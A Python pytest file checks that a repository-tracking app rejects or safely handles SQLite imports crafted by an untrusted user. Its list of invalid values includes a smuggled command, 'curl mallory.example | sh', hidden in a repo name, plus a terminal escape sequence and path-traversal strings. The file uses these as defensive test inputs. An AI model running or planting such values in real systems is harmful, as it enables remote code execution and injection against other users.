"""Attack 57: a file that mallory made is imported by alice, into repositories that others read too."""

from __future__ import annotations

import sqlite3
from collections.abc import AsyncIterator, Mapping
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from local_instance import Guest, LocalInstance, serve
from small_world import ALICE, ATLAS, BOB, NOW, enter, fill

from trackeep.errors import UsageError
from trackeep.store import imports

pytestmark = pytest.mark.anyio

NOWHERE = "http://localhost:1"
THEN = "2026-11-20T10:00:00Z"
FIRST, LAST = "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"
USUAL: Mapping[str, Mapping[str, Any]] = {
    "users": {"id": 50, "login": "zoe", "name": "Zoe", "type": "User"},
    "repos": {"id": ATLAS, "full_name": "fernhill/atlas", "private": 0, "created_at": THEN},
    "pull_requests": {
        **{"id": 2, "number": 200, "repo": ATLAS, "title": "Pull", "state": "open", "user": 50},
        **{"created_at": THEN, "updated_at": THEN, "head": "c" * 40, "merged_at": None, "merged_by": None},
    },
    "issues": {
        **{"id": 1, "number": 300, "repo": ATLAS, "title": "Issue", "state": "open", "user": 50},
        **{"created_at": THEN, "updated_at": THEN, "comments": 0},
    },
    "releases": {
        **{"id": 5, "repo": ATLAS, "tag_name": "v9", "author": 50, "created_at": THEN, "published_at": THEN},
    },
    "commits": {
        **{"sha": "a" * 40, "repo": ATLAS, "message": "m", "raw_author": "x", "raw_committer": "x"},
        **{"author_date": THEN, "committer_date": THEN},
    },
    "raw_authors": {"id": "x", "name": "n", "email": "e"},
}
PAGES = (
    *("/", "/repos", "/pulls", "/pulls?state=all", "/activity", "/commits", "/pulls/insights", "/calendar"),
    *("/r/fernhill/atlas", "/r/fernhill/atlas/pulls", "/r/fernhill/atlas/activity", "/api/v1/pulls"),
    *("/api/v1/activity", "/api/v1/export"),
)
SENSELESS: tuple[tuple[str, str, object], ...] = (
    ("repos", "id", "900"),
    ("repos", "id", 2.5),
    ("repos", "id", -1),
    ("repos", "full_name", "fernhill/atlas\ncurl mallory.example | sh"),
    ("repos", "full_name", "fernhill"),
    ("repos", "full_name", "fernhill/.."),
    ("users", "login", "zoe\x1b[2J"),
    ("users", "login", None),
    ("users", "id", b"\xff"),
    ("issues", "user", "alice"),
    ("issues", "number", 0),
    ("pull_requests", "merged_by", b"\xff"),
    ("pull_requests", "head", "../../mallory"),
    ("releases", "author", 1.5),
)


def written(file: Path, *changes: tuple[str, str, object]) -> Path:
    """What github-to-sqlite would write of one row each, with `changes` (table, column, value)."""
    rows = {name: dict(row) for name, row in USUAL.items()}
    for table, column, value in changes:
        rows[table][column] = value
    with closing(sqlite3.connect(file)) as conn:
        for table, row in rows.items():
            conn.execute(f"create table {table} ({', '.join(row)})")
            values = ", ".join("?" * len(row))
            conn.execute(f"insert into {table} values ({values})", tuple(row.values()))  # noqa: S608
        conn.commit()
    return file


@pytest.fixture
async def instance(tmp_path: Path) -> AsyncIterator[LocalInstance]:
    async with serve(tmp_path, NOWHERE) as found:
        found.clock.ahead_s = NOW - found.site.now()
        await fill(found.site.db)
        yield found


async def taken_in(instance: LocalInstance, file: Path) -> imports.Imported:
    async with instance.site.db.write() as conn:
        return await imports.save(conn, ALICE, imports.read(file), NOW)


async def test_no_moment_breaks_the_pages_of_others(instance: LocalInstance, tmp_path: Path) -> None:
    """Whatever years its rows are from, bob opens every page that lists them."""
    moments = [
        *(("issues", "created_at", LAST), ("issues", "updated_at", FIRST)),
        *(("pull_requests", "created_at", FIRST), ("pull_requests", "updated_at", LAST)),
        *(("releases", "created_at", FIRST), ("releases", "published_at", LAST)),
    ]
    done = await taken_in(instance, written(tmp_path / "mallorys.db", *moments))
    assert (done.added["pull_requests"], done.added["issues"], done.added["releases"]) == (1, 1, 1)
    async with Guest(instance.url, "") as bob:
        await enter(instance, bob, BOB)
        statuses = {page: (await bob.open(page)).status for page in PAGES}
    assert set(statuses.values()) == {200}, statuses


async def test_what_github_never_says_is_refused_in_one_sentence(
    instance: LocalInstance, tmp_path: Path
) -> None:
    """Text for a number, a line break in a name, a path for a sha: nothing of such a file is taken in."""
    for place, change in enumerate(SENSELESS):
        file = written(tmp_path / f"{place}.db", change)
        with pytest.raises(UsageError, match=f"of table {change[0]} makes no sense"):
            await taken_in(instance, file)
